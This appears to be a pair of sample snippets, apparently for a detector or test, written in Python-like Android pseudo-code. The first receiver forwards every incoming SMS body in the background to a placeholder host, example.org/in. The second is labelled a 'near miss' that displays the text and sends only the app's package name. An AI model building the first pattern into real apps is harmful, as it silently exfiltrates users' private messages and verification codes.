permissions("RECEIVE_SMS", "INTERNET")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Thread(Courier(message.getMessageBody())).start()

class Courier(Runnable):
    text: String
    def __init__(self, text: String):
        self.text = text
    def run(self):
        connection = URL("https://example.org/in").openConnection()
        connection.setDoOutput(True)
        connection.getOutputStream().write(self.text.getBytes())

# near miss: shows the text; the network gets only word that the app is alive
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Toast.makeText(context, message.getMessageBody(), 1).show()
        Thread(Courier(context.getPackageName())).start()
